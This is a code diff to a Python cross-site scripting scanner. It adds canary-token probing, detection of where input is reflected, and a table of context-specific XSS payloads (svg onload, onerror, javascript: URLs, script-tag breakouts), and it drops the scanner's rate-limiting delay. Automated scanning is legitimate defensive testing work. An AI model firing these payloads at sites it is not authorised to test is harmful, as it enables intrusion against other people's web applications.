@@ -1,10 +1,50 @@
-import requests
 import re
-from urllib.parse import urljoin, urlparse
-import time
+import secrets
+from scanner.response_cache import ResponseCache
+from scanner.transport import get_transport
+from scanner.crawler import get_attack_surface, NON_INJECTABLE_TYPES
+
+# Attributes whose value is loaded or followed as a URL
+URL_ATTRIBUTES = ('href', 'src', 'action', 'formaction', 'data', 'poster', 'background')
+
+# Elements whose content is parsed as text, so markup must first close them
+RCDATA_TAGS = ('textarea', 'title')
+
+# Attribute name and value prefix in front of a position inside a tag
+_ATTRIBUTE_BEFORE = re.compile(r'([^\s"\'<>/=]+)\s*=\s*(?:"([^"]*)|\'([^\']*)|([^\s"\'>]*))$')
+
+# Payloads by reflection context; {n} is replaced with a per-field number
+# so a reflected payload is attributed to the right field
+CONTEXT_PAYLOADS = {
+    'html': ['<svg onload=alert({n})>', '<img src=x onerror=alert({n})>', '<details open ontoggle=alert({n})>'],
+    'attribute': ['><svg onload=alert({n})>', ' autofocus onfocus=alert({n}) '],
+    'attribute"': ['"><svg onload=alert({n})>', '" autofocus onfocus=alert({n}) x="'],
+    "attribute'": ["'><svg onload=alert({n})>", "' autofocus onfocus=alert({n}) x='"],
+    'url': ['javascript:alert({n})'],
+    'event': ['alert({n})'],
+    'script': [';alert({n});//', '</script><svg onload=alert({n})>'],
+    'script"': ['";alert({n});//', '</script><svg onload=alert({n})>'],
+    "script'": ["';alert({n});//", '</script><svg onload=alert({n})>'],
+    'script`': ['${{alert({n})}}', '</script><svg onload=alert({n})>'],
+    'comment': ['--><svg onload=alert({n})>'],
+    'textarea': ['</textarea><svg onload=alert({n})>'],
+    'title': ['</title><svg onload=alert({n})>']
+}
+
+CONTEXT_NAMES = {
+    'html': 'HTML text', 'attribute': 'unquoted attribute', 'attribute"': 'double-quoted attribute',
+    "attribute'": 'single-quoted attribute', 'url': 'URL attribute', 'event': 'event handler',
+    'script': 'script', 'script"': 'script string', "script'": 'script string', 'script`': 'script template',
+    'comment': 'HTML comment', 'textarea': 'textarea', 'title': 'title'
+}
 
 class XSSChecker:
-    def __init__(self):
+    def __init__(self, canary_probing=True, max_rounds=3):
+        # With canary probing, each form first gets one request carrying a
+        # harmless token per field; only fields that reflect are sent
+        # payloads, chosen for the HTML context they are reflected in
+        self.canary_probing = canary_probing
+        self.max_rounds = max_rounds  # Payload requests per form after the canary request
         self.payloads = [
             "<script>alert('XSS')</script>",
             "<img src=x onerror=alert('XSS')>",
@@ -13,25 +53,25 @@ class XSSChecker:
             "'\"><script>alert('XSS')</script>",
             "<iframe src=javascript:alert('XSS')></iframe>"
         ]
-        self.session = requests.Session()
-        self.session.headers.update({
-            'User-Agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36'
-        })
+        self.session = get_transport()
     
-    def check(self, url):
+    def check(self, url, cache=None):
         """Check for XSS vulnerabilities"""
         vulnerabilities = []
+        cache = cache or ResponseCache()
         
         try:
-            # Get the main page first
-            response = self.session.get(url, timeout=10)
-            
-            # Find forms and input fields
-            forms = self._find_forms(response.text)
+            # Forms and parameterised links of every page crawled from url,
+            # each unique endpoint tested once
+            surface = get_attack_surface(cache, self.session, url)
             
-            for form in forms:
-                form_url = urljoin(url, form.get('action', ''))
-                method = form.get('method', 'GET').upper()
+            for form in surface.endpoints:
+                if self.canary_probing:
+                    vulnerabilities.extend(self._probe_form(form))
+                    continue
+                
+                form_url = form['action']
+                method = form['method']
                 
                 # Test each payload
                 for payload in self.payloads:
@@ -39,8 +79,6 @@ class XSSChecker:
                     if vulnerability:
                         vulnerabilities.append(vulnerability)
                         break  # One payload sufficient per form
-                
-                time.sleep(0.5)  # Rate limiting
         
         except Exception as e:
             vulnerabilities.append({
@@ -52,39 +90,116 @@ class XSSChecker:
         
         return vulnerabilities
     
-    def _find_forms(self, html):
-        """Extract forms from HTML"""
-        forms = []
-        form_pattern = r'<form[^>]*>(.*?)</form>'
+    def _probe_form(self, form):
+        """Find reflecting fields with canary tokens, then confirm them with context-specific payloads"""
+        vulnerabilities = []
+        fields = [field for field in form['inputs'] if field['type'] not in NON_INJECTABLE_TYPES]
+        if not fields:
+            return vulnerabilities
         
-        for form_match in re.finditer(form_pattern, html, re.DOTALL | re.IGNORECASE):
-            form_html = form_match.group(0)
-            
-            # Extract form attributes
-            action_match = re.search(r'action=["\']([^"\']*)["\']', form_html, re.IGNORECASE)
-            method_match = re.search(r'method=["\']([^"\']*)["\']', form_html, re.IGNORECASE)
-            
-            # Extract input fields
-            inputs = []
-            input_pattern = r'<input[^>]*>'
-            for input_match in re.finditer(input_pattern, form_html, re.IGNORECASE):
-                input_html = input_match.group(0)
-                name_match = re.search(r'name=["\']([^"\']*)["\']', input_html, re.IGNORECASE)
-                type_match = re.search(r'type=["\']([^"\']*)["\']', input_html, re.IGNORECASE)
-                
-                if name_match:
-                    inputs.append({
-                        'name': name_match.group(1),
-                        'type': type_match.group(1) if type_match else 'text'
-                    })
-            
-            forms.append({
-                'action': action_match.group(1) if action_match else '',
-                'method': method_match.group(1) if method_match else 'GET',
-                'inputs': inputs
-            })
+        # One request with a unique alphanumeric token in every field
+        prefix = 'xs' + secrets.token_hex(4)
+        canaries = {field['name']: f'{prefix}{index}z' for index, field in enumerate(fields)}
+        response = self._submit(form, canaries)
+        if response is None:
+            return vulnerabilities
         
-        return forms
+        html = response.text
+        lowered = html.lower()
+        queues = {}  # Field name -> [(payload, context)] still to try
+        for index, field in enumerate(fields):
+            candidates = []
+            for context in self._reflection_contexts(html, lowered, canaries[field['name']]):
+                for payload in CONTEXT_PAYLOADS[context]:
+                    payload = payload.format(n=1000 + index)
+                    if all(payload != tried for tried, _ in candidates):
+                        candidates.append((payload, context))
+            if candidates:
+                queues[field['name']] = candidates
+        
+        # Each round sends the next candidate payload for every reflecting
+        # field that is not confirmed yet, all in one request
+        for _ in range(self.max_rounds):
+            if not queues:
+                break
+            attempt = {name: payloads.pop(0) for name, payloads in queues.items()}
+            response = self._submit(form, {name: payload for name, (payload, _) in attempt.items()})
+            if response is None:
+                break
+            for name, (payload, context) in attempt.items():
+                if payload in response.text:
+                    vulnerabilities.append(self._field_report(form, name, payload, context))
+                    del queues[name]
+                elif not queues[name]:
+                    del queues[name]
+        
+        return vulnerabilities
+    
+    def _submit(self, form, values):
+        """Send the form with its default values, overridden by values"""
+        data = {field['name']: field['value'] for field in form['inputs']}
+        data.update(values)
+        try:
+            if form['method'] == 'POST':
+                return self.session.post(form['action'], data=data, timeout=10)
+            return self.session.get(form['action'], params=data, timeout=10)
+        except Exception:
+            return None
+    
+    def _reflection_contexts(self, html, lowered, token, limit=3):
+        """HTML contexts of the first few places token is reflected in html"""
+        contexts = []
+        position = html.find(token)
+        while position >= 0 and len(contexts) < limit:
+            context = self._context_at(html, lowered, position)
+            if context not in contexts:
+                contexts.append(context)
+            position = html.find(token, position + len(token))
+        return contexts
+    
+    def _context_at(self, html, lowered, position):
+        """Classify where in the document position falls: text, attribute, script, ..."""
+        comment = lowered.rfind('<!--', 0, position)
+        if comment >= 0 and lowered.find('-->', comment + 4, position) < 0:
+            return 'comment'
+        
+        script = lowered.rfind('<script', 0, position)
+        if script >= 0 and lowered.find('</script', script, position) < 0 and html.find('>', script, position) >= 0:
+            quote = html[position - 1]
+            return 'script' + quote if quote in '"\'`' else 'script'
+        
+        for tag in RCDATA_TAGS:
+            start = lowered.rfind(f'<{tag}', 0, position)
+            if start >= 0 and lowered.find(f'</{tag}', start, position) < 0 and html.find('>', start, position) >= 0:
+                return tag
+        
+        tag_start = html.rfind('<', 0, position)
+        if tag_start > html.rfind('>', 0, position):
+            # Inside a tag: which attribute, and how is its value quoted?
+            match = _ATTRIBUTE_BEFORE.search(html, tag_start, position)
+            if not match:
+                return 'attribute'
+            name = match.group(1).lower()
+            quote = '"' if match.group(2) is not None else "'" if match.group(3) is not None else ''
+            if name.startswith('on'):
+                return 'event'
+            if name in URL_ATTRIBUTES and not match.group(match.lastindex):
+                return 'url'  # The value starts with the reflection
+            return 'attribute' + quote
+        
+        return 'html'
+    
+    def _field_report(self, form, name, payload, context):
+        """Finding for one field whose payload was reflected unencoded"""
+        where = 'form' if form['source'] == 'form' else 'parameters'
+        return {
+            'type': 'Cross-Site Scripting (XSS)',
+            'title': f'Reflected XSS in Field: {name}',
+            'severity': 'high',
+            'description': f'Potential XSS vulnerability in field "{name}" of {where} at {form["action"]}',
+            'details': f'Payload "{payload}" was reflected unencoded in {CONTEXT_NAMES[context]} context',
+            'recommendation': 'Implement input validation and context-aware output encoding'
+        }
     
     def _test_payload(self, url, method, form, payload):
         """Test a specific XSS payload"""
@@ -105,7 +220,7 @@ class XSSChecker:
                 return {
                     'type': 'Cross-Site Scripting (XSS)',
                     'severity': 'high',
-                    'description': f'Potential XSS vulnerability found in form at {url}',
+                    'description': f'Potential XSS vulnerability found in {"form" if form["source"] == "form" else "parameters"} at {url}',
                     'details': f'Payload "{payload}" was reflected in the response',
                     'recommendation': 'Implement input validation and output encoding'
                 }